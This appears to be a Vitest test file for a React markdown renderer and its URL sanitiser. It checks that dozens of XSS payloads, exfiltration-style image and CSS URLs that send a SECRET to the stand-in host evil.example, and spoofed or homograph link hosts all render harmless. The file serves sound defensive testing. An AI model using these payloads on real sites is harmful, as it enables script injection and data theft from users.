import { parseHTML } from 'linkedom';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { RenderedMarkdown } from './RenderedMarkdown.tsx';
import { unsafeAddresses } from '../../lib/test-addresses.ts';
import { safeAddress } from '../../lib/safe-address.ts';

const render = (text: string) => renderToStaticMarkup(<RenderedMarkdown text={text} />);
const documentOf = (html: string) => parseHTML(`<!doctype html><html><body>${html}</body></html>`).document;

const addresses = [
  ...unsafeAddresses,
  'java\\nscript:alert(1)',
  '&#106;avascript:alert(1)',
  'javascript&colon;alert(1)',
];

const payloads = [
  ...addresses.map((address) => `[a](${address})`),
  ...addresses.map((address) => `[a][r]\n\n[r]: ${address}`),
  ...addresses.map((address) => `![a](${address})`),
  '<javascript:alert(1)>',
  '![x](https://evil.example/p.png?d=SECRET)',
  '![x][r]\n\n[r]: https://evil.example/p.png?d=SECRET',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '[^1]\n\n[^1]: ![x](https://evil.example/f?SECRET)',
  '| ![x](https://evil.example/t?SECRET) |\n|---|\n| b |',
  '- [ ] ![x](https://evil.example/l)',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="https://evil.example/p">',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<iframe src=javascript:alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.example" ping="https://evil.example/ping">x</a>',
  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<details open ontoggle=alert(1)>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<style>@import "https://evil.example/"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<video poster="https://evil.example/p?SECRET">',
  '<input type=image src=https://evil.example/p?SECRET>',
  '<p style="background:url(https://evil.example/?SECRET)">x</p>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<audio src="https://evil.example">',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '[a](http://evil.example" onmouseover="alert(1))',
  '[a](<https://evil.example" onclick="alert(1)>)',
  '[a](https://evil.example "x\\" onclick=\\"alert(1)")',
  'https://evil.example/?d=SECRET',
  '<https://evil.example/?d=SECRET>',
  'www.evil.example/?d=SECRET',
  '# <img src=x onerror=alert(1)>',
  '<!-- --><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
];

const ALLOWED = new Set([
  'div',
  'p',
  'span',
  'a',
  'strong',
  'em',
  'del',
  'ul',
  'ol',
  'li',
  'code',
  'pre',
  'h3',
  'h4',
  'h5',
  'h6',
  'blockquote',
  'br',
  'hr',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
  'sup',
  'section',
]);

const isActive = (name: string) =>
  /^on|^(src|srcset|poster|action|formaction|ping|background|data|xlink:href)$/.test(name);

/** Elements that are none of those above, and attributes that run, fetch or submit. */
const harmsIn = (elements: readonly Element[]): string[] => [
  ...elements.map((e) => e.localName).filter((name) => !ALLOWED.has(name)),
  ...elements.flatMap((e) => [...e.attributes].map((a) => a.name)).filter(isActive),
];

describe.each(payloads)('%j', (payload) => {
  const elements = [...documentOf(render(payload)).body.querySelectorAll('*')];

  it('becomes harmless elements only', () => {
    expect(elements.map((e) => e.localName).filter((name) => !ALLOWED.has(name))).toEqual([]);
  });

  it('has no attribute that runs, fetches or submits', () => {
    expect(harmsIn(elements)).toEqual([]);
  });

  it('links to the web or to mail only, with the host in sight', () => {
    for (const link of elements.filter((e) => e.hasAttribute('href'))) {
      expect(link.getAttribute('href')).toMatch(/^(https?:\/\/|mailto:)/);
      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow ugc');
      expect(link.parentElement?.textContent).toContain('evil.example');
    }
  });
});

it('is as harmless at every length while an answer streams in', () => {
  const beginnings = payloads.flatMap((payload) => [...payload].map((_, length) => payload.slice(0, length)));
  for (const beginning of new Set(beginnings)) {
    const elements = [...documentOf(render(beginning)).body.querySelectorAll('*')];
    expect(harmsIn(elements)).toEqual([]);
    const links = elements.flatMap((e) => e.getAttribute('href') ?? []);
    expect(links.filter((link) => !/^(https?:\/\/|mailto:)/.test(link))).toEqual([]);
  }
});

it.each([
  ['[은행](https://evil.example/login)', '(evil.example)'],
  ['[https://good.example](https://evil.example/)', '(evil.example)'],
  ['[good.example/evil.example](https://evil.example/)', '(evil.example)'],
  ['[**굵게**](https://evil.example/)', '(evil.example)'],
  ['[편지](mailto:a@b.example)', '(a@b.example)'],
])('shows where %s leads', (text, host) => {
  expect(render(text)).toContain(host);
});

it('says the host once when the link is its own address', () => {
  expect(documentOf(render('https://news.example/a')).body.textContent).toBe('https://news.example/a');
});

it('renders headings, lists, tables, tasks and code', () => {
  const html = render('# 제목\n\n- 하나\n- [x] 둘\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n`코드`');
  expect(html).toContain('<h3>제목</h3>');
  expect(html).toContain('☑');
  expect(html).toContain('<td style="text-align:right">2</td>');
  expect(html).toContain('<code>코드</code>');
});

it('puts what it is given in the place of known marks, and leaves others', () => {
  const marks = { isKnown: (mark: number) => mark === 1, show: (mark: number) => <b key={mark}>{mark}</b> };
  const html = renderToStaticMarkup(
    <RenderedMarkdown text={'첫 잔 [1]\n\n- **원두** [1] [2]\n- `[1]`'} marks={marks} />,
  );
  expect(documentOf(html).body.querySelectorAll('b').length).toBe(2);
  expect(html).toContain('[2]');
  expect(html).toContain('<code>[1]</code>');
});

it.each([
  ['https://a.example/x?y=1', 'https://a.example/x?y=1'],
  ['HTTP://A.example', 'http://a.example/'],
  ['mailto:a@b.example', 'mailto:a@b.example'],
  ['javascript:alert(1)', ''],
  ['//evil.example', ''],
  ['https://bank.example@evil.example/', ''],
  ['https://bank.example:443@evil.example/', ''],
  ['https://bаnk.example/', 'https://xn--bnk-6cd.example/'],
  ['https://ｅvil.example/', 'https://evil.example/'],
  ['/api/logout', ''],
  ['#top', ''],
])('takes the address %s as %j', (address, kept) => {
  expect(safeAddress(address)).toBe(kept);
});

describe('check boxes', () => {
  const text = '글\n\n- [ ] 대본\n- [x] 섭외\n  - [ ] 장소\n\n> 1. [ ] 인용\n\n- [ ] 풀린\n\n  목록';

  it('are pictures until they may be ticked', () => {
    expect(documentOf(render(text)).body.querySelectorAll('input').length).toBe(0);
    expect(render(text).match(/[☐☑]/g)).toHaveLength(5);
  });

  it('are told apart by where their list item begins, and named by its words', () => {
    const html = renderToStaticMarkup(<RenderedMarkdown text={text} onTick={() => undefined} />);
    const boxes = [...documentOf(html).body.querySelectorAll('input')];
    expect(boxes.map((box) => box.getAttribute('type'))).toEqual(Array.from({ length: 5 }, () => 'checkbox'));
    expect(boxes.map((box) => box.getAttribute('aria-label'))).toEqual(['대본', '섭외', '장소', '인용', '풀린']);
    expect(boxes.map((box) => box.hasAttribute('checked'))).toEqual([false, true, false, false, false]);
  });

  it.each(payloads)('%j brings no other field', (payload) => {
    const html = renderToStaticMarkup(<RenderedMarkdown text={payload} onTick={() => undefined} />);
    for (const field of documentOf(html).body.querySelectorAll('input, form, button')) {
      expect(
        [...field.attributes]
          .map(({ name }) => name)
          .toSorted()
          .join(),
      ).toMatch(/^aria-label,(checked,)?type$/);
      expect(field.getAttribute('type')).toBe('checkbox');
    }
  });
});

describe('marks that a Korean particle follows', () => {
  it.each([
    ['**"분쇄도"**를 바꿔요', '<strong>&quot;분쇄도&quot;</strong>를'],
    ['**분쇄도(1단)**가 **‘맛’**을', '<strong>분쇄도(1단)</strong>가 <strong>‘맛’</strong>을'],
    ['- ~~(옛 값)~~은', '<del>(옛 값)</del>은'],
    ['**굵게**는 그대로', '<strong>굵게</strong>는'],
  ])('%s', (text, html) => expect(render(text)).toContain(html));

  it.each(['\\*\\*"별"\\*\\*이', '2 ** 3 ** 4', '`**"분쇄도"**를`', '** 빈 **', '****'])('%j keeps its stars', (text) =>
    expect(render(text)).not.toContain('<strong>'),
  );
});

it('counts a list from the number that it begins with', () => {
  expect(render('3. 셋\n4. 넷')).toContain('<ol start="3" style="counter-reset:markdown-item 2">');
  expect(render('1. 하나')).not.toContain('counter-reset');
});
